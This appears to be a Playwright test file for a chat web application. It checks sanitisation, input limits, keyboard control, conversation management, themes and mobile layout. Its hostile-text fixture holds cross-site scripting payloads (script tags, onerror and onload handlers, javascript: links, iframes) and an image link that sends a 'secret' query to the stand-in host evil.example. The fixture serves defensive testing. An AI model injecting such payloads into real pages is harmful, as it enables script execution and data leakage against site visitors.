"""The chat page itself: hostile text, keyboard, phone, themes, and the list of conversations."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import OpenVisitor
from tests.browser.site import ADMIN_PASSWORD, Daphne, StandIn
from tests.browser.visitor import Visitor

pytestmark = [pytest.mark.browser, pytest.mark.services]

HOSTILE = """<script>window.hacked = 1</script> <img src=x onerror="window.hacked = 1">

[click](javascript:window.hacked=1) ![pixel](https://evil.example/pixel.png?q=secret)

```html
<img src=x onerror="window.hacked = 1">
```

<svg/onload=window.hacked=1> <iframe src="https://evil.example/"></iframe>"""


def test_nothing_in_an_answer_runs_or_loads_anything(visitor: Visitor, stand_in: StandIn) -> None:
    stand_in.say(HOSTILE, chunk_bytes=7, token_delay_s=0.01)
    answer = visitor.ask("Say something hostile.")
    for _ in ("streamed", "reloaded"):
        expect(answer).to_contain_text("<script>window.hacked = 1</script>")
        expect(answer.locator("a.image-link")).to_have_attribute("href", re.compile("^https://evil.example/pixel"))
        assert answer.locator("img, script, iframe, .answer-body svg, a[href^=javascript]").count() == 0
        assert visitor.page.evaluate("window.hacked") is None
        visitor.page.reload()
        answer = visitor.page.locator("article.answer")


@pytest.mark.parametrize(
    "question",
    [
        "<img src=x onerror=alert(1)> & <b>bold</b>",
        "مرحبا، كيف حالك؟",
        "🙂👩‍👩‍👧‍👦 ẞ İ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
        "line one\nline two",
        "x" * 15_999,
    ],
)
def test_any_question_is_shown_as_it_was_written(visitor: Visitor, question: str) -> None:
    visitor.ask(question)
    visitor.page.reload()
    assert visitor.page.locator(".question-text").text_content() == question
    assert_fits(visitor.page)


def test_too_long_a_question_is_not_sent_and_not_lost(visitor: Visitor) -> None:
    visitor.field.fill("x" * 16_001)
    visitor.field.press("Enter")
    expect(visitor.page.locator(".hint .count")).to_have_text("16,001 of 16,000 characters")
    expect(visitor.page.locator("article")).to_have_count(0)
    assert len(visitor.field.input_value()) == 16_001


def test_a_hundred_thousand_words_do_not_stop_the_page(visitor: Visitor, stand_in: StandIn) -> None:
    stand_in.say("| cell " * 20_000, deltas=20_000)
    visitor.ask("Fill the page.")
    assert_fits(visitor.page)


def test_the_keyboard_is_enough(visitor: Visitor, stand_in: StandIn) -> None:
    page = visitor.page
    page.goto("/")
    expect(visitor.field).to_be_focused()
    page.keyboard.type("First line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    page.keyboard.press("Enter")
    expect(page.locator(".question-text")).to_have_text("First line\nsecond line")
    expect(page.locator("article.answer .tools")).to_be_visible()
    stand_in.say("word", endless=True, token_delay_s=0.05)
    page.keyboard.type("Go on")
    page.keyboard.press("Enter")
    expect(page.locator("article.answer").nth(1)).to_contain_text("word")
    page.keyboard.press("Escape")
    expect(page.locator(".answer-note").last).to_have_text("Stopped.")
    page.keyboard.type("The focus is still here")
    expect(visitor.field).to_have_value("The focus is still here")


def test_a_conversation_is_renamed_and_deleted(visitor: Visitor) -> None:
    page = visitor.page
    visitor.ask("A question for the list")
    page.get_by_role("button", name=re.compile("^Rename")).click()
    page.get_by_label("New title").fill("Another title")
    page.keyboard.press("Enter")
    expect(page.get_by_role("link", name="Another title")).to_be_focused()
    expect(page).to_have_title("Another title · chatapp")
    page.reload()
    page.get_by_role("button", name=re.compile("^Delete “")).click()
    page.get_by_role("button", name="Delete for good").click()
    expect(page.get_by_text("No conversations yet.")).to_be_visible()
    expect(page).to_have_url(re.compile("/$"))
    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()


def test_back_and_forward_move_between_conversations(visitor: Visitor) -> None:
    page = visitor.page
    visitor.ask("The first conversation")
    page.get_by_role("link", name="New chat").click()
    visitor.ask("The second conversation")
    page.get_by_role("link", name="The first conversation").click()
    expect(page.locator(".question-text")).to_have_text("The first conversation")
    page.go_back()
    expect(page.locator(".question-text")).to_have_text("The second conversation")
    page.go_forward()
    expect(page.locator(".question-text")).to_have_text("The first conversation")


def test_the_theme_that_was_chosen_is_there_from_the_first_byte(visitor: Visitor) -> None:
    page = visitor.page
    background = "getComputedStyle(document.body).backgroundColor"
    light = page.evaluate(background)
    page.get_by_role("button", name="Switch between light and dark").click()
    assert page.evaluate(background) != light
    response = page.reload()
    assert response is not None
    assert 'data-theme="dark"' in response.text()
    visitor.photograph("dark")


@pytest.mark.parametrize("width", [320, 375, 768, 3_840])
@pytest.mark.parametrize("dark", [False, True])
def test_every_page_fits(site: Daphne, open_visitor: OpenVisitor, width: int, dark: bool) -> None:
    visitor = open_visitor(site.origin, width=width, height=720, dark=dark)
    for path in ("/accounts/login/", "/accounts/signup/"):
        visitor.page.goto(path)
        assert_fits(visitor.page)
    visitor.log_in("admin", ADMIN_PASSWORD)
    visitor.wait_for_line()
    visitor.ask("What can you do?")
    assert_fits(visitor.page)
    visitor.photograph(f"chat-{width}-{'dark' if dark else 'light'}")
    for path in ("/latency/", "/accounts/password_change/", "/no-such-page/"):
        visitor.page.goto(path)
        assert_fits(visitor.page)
    visitor.forgive("404 (Not Found)")


def test_on_a_phone_the_list_is_a_drawer(site: Daphne, open_visitor: OpenVisitor) -> None:
    visitor = open_visitor(site.origin, width=375, height=667)
    visitor.sign_up()
    visitor.ask("A question on a phone")
    link = visitor.page.get_by_role("link", name="A question on a phone")
    expect(link).to_be_hidden()
    visitor.page.get_by_role("button", name="Conversations").click()
    visitor.photograph("phone-drawer")
    link.click()
    expect(link).to_be_hidden()


def assert_fits(page: Page) -> None:
    """Nothing reaches out of the page sideways."""
    wide, screen = page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
    assert wide <= screen
